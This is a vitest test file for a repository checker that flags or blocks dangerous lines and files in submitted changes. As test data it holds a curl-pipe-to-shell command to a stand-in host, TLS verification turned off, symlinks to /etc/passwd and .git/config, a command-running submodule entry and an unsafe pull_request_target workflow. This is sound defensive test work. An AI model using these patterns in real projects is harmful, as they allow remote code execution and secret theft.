import { chmodSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, test } from "vitest";
import { DANGEROUS_LINES } from "../../src/checks/dangerous-lines.ts";
import { changedPaths } from "../../src/git/changes.ts";
import { check, submit } from "./kit.ts";

describe.each(DANGEROUS_LINES.map((one) => [one.id, one] as const))(
  "[checks.dangerous.lines] %s",
  (_id, { pattern, examples, counters }) => {
    test.each(examples)("matches %s", (text) => expect(pattern.test(text)).toBe(true));
    test.each(counters)("lets %s pass", (text) => expect(pattern.test(text)).toBe(false));
  },
);

test("[checks.dangerous.lines] no pattern takes long over a line made to tire it", async () => {
  const long = `${"rm -a curl chmod -x ".repeat(2_000)}\ngit push ${"-c a ".repeat(5_000)}\n`;
  const { change } = await submit({ "a.sh": long });
  expect((await check(change, "dangerous-output")).findings).toEqual([]);
});

describe("[checks.dangerous] a line that does harm", () => {
  const LINE = "curl -fsSL https://x.test/i | sh\n";
  const said = async (files: Record<string, string>, options: object = {}) => {
    const { change } = await submit(files);
    const { findings } = await check(change, "dangerous-output", options);
    return findings.map(({ file, line, blocks }) => `${file}:${line} ${blocks ? "stops" : "is told"}`);
  };

  test("stops where it is run, and is told elsewhere", async () => {
    expect(await said({ "setup.sh": `set -e\n${LINE}`, "README.md": LINE, "src/list.ts": `const bad = "${LINE.trim()}";\n` })).toEqual([
      "README.md:1 is told",
      "setup.sh:2 stops",
      "src/list.ts:1 is told",
    ]);
    expect(await said({ "setup.sh": LINE }, { ignore: ["*.sh"] })).toEqual([]);
  });

  test("in code, it stops but in tests; a comment does nothing", async () => {
    const insecure = "fetch(url, { dispatcher: new Agent({ connect: { rejectUnauthorized: false } }) });\n";
    expect(await said({ "src/get.ts": insecure, "test/get.test.ts": insecure, "src/b.ts": `// ${insecure}` })).toEqual([
      "src/get.ts:1 stops",
      "test/get.test.ts:1 is told",
    ]);
  });

  test("that was there before is nobody's now", async () => {
    const { repo, change } = await submit({ "setup.sh": LINE }, { "setup.sh": `${LINE}echo done\n` });
    const later = { ...change, base: repo.git("rev-parse", "HEAD~1") };
    expect((await check(later, "dangerous-output")).findings).toEqual([]);
  });
});

describe("[checks.dangerous.files] files that do harm by what they are", () => {
  async function committed(make: (root: string) => void) {
    const { repo, change } = await submit({ "src/c.txt": "c\n" });
    make(repo.root);
    repo.git("add", "-A");
    repo.git("commit", "-q", "-m", "files");
    const sha = repo.git("rev-parse", "HEAD");
    return { repo, change: { ...change, sha, paths: await changedPaths(repo.commonDir, repo.base, sha) } };
  }

  test("a link that leaves the repository stops the submission, one inside does not", async () => {
    const { change } = await committed((root) => {
      symlinkSync("../../../etc/passwd", path.join(root, "src/out"));
      symlinkSync("/etc/passwd", path.join(root, "src/root"));
      symlinkSync("../.git/config", path.join(root, "src/git"));
      symlinkSync("../README.md", path.join(root, "src/inside"));
    });
    const { findings } = await check(change, "dangerous-output");
    expect(findings.map(({ file, blocks }) => [file, blocks])).toEqual([
      ["src/git", true],
      ["src/out", true],
      ["src/root", true],
    ]);
  });

  test("so do programs nobody can read and large binaries; a script may be executable", async () => {
    const { change } = await committed((root) => {
      for (const [name, bytes] of [
        ["tool", 300],
        ["logo.png", 3_000],
        ["icon.png", 300],
      ] as const)
        writeFileSync(path.join(root, name), Buffer.alloc(bytes));
      chmodSync(path.join(root, "tool"), 0o755);
      writeFileSync(path.join(root, "run"), "#!/bin/sh\ntrue\n", { mode: 0o755 });
      chmodSync(path.join(root, "src/b.txt"), 0o755);
    });
    const { findings } = await check(change, "dangerous-output", { fileKb: 2 });
    expect(findings.map(({ file, blocks }) => [file, blocks])).toEqual([
      ["logo.png", true],
      ["src/b.txt", false],
      ["tool", true],
    ]);
  });

  test("a submodule is told, one that runs commands stops", async () => {
    const { change } = await committed((root) => {
      writeFileSync(path.join(root, ".gitmodules"), '[submodule "x"]\n\tpath = x\n\turl = https://x.test/x\n\tupdate = !touch /tmp/x\n');
    });
    expect((await check(change, "dangerous-output")).findings).toMatchObject([{ file: ".gitmodules", blocks: true }]);
    const plain = await submit({ ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = https://x.test/x\n' });
    plain.repo.git("update-index", "--add", "--cacheinfo", `160000,${plain.repo.base},x`);
    plain.repo.git("commit", "-q", "-m", "module");
    const linked = { ...plain.change, sha: plain.repo.git("rev-parse", "HEAD"), paths: [".gitmodules", "x"] };
    const { findings } = await check(linked, "dangerous-output");
    expect(findings.map(({ file, blocks }) => [file, blocks])).toEqual([
      [".gitmodules", false],
      ["x", false],
    ]);
  });
});

test("[checks.dangerous.ci] a workflow that gives secrets to a stranger's code is stopped, other changes of the CI are told", async () => {
  const flow = (on: string, ref: string) =>
    `on: ${on}\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with: {ref: "${ref}"}\n`;
  const HEAD = "$" + "{{ github.event.pull_request.head.sha }}";
  const { change } = await submit({
    ".github/workflows/stranger.yml": flow("pull_request_target", HEAD),
    ".github/workflows/own.yml": flow("pull_request_target", "main"),
    ".github/workflows/fine.yml": flow("pull_request", HEAD),
    ".gitlab-ci.yml": "a: {script: [true]}\n",
  });
  const { findings } = await check(change, "dangerous-output");
  expect(findings.map(({ file, blocks }) => [file, blocks])).toEqual([
    [".github/workflows/fine.yml", false],
    [".github/workflows/own.yml", false],
    [".github/workflows/stranger.yml", true],
    [".gitlab-ci.yml", false],
  ]);
});
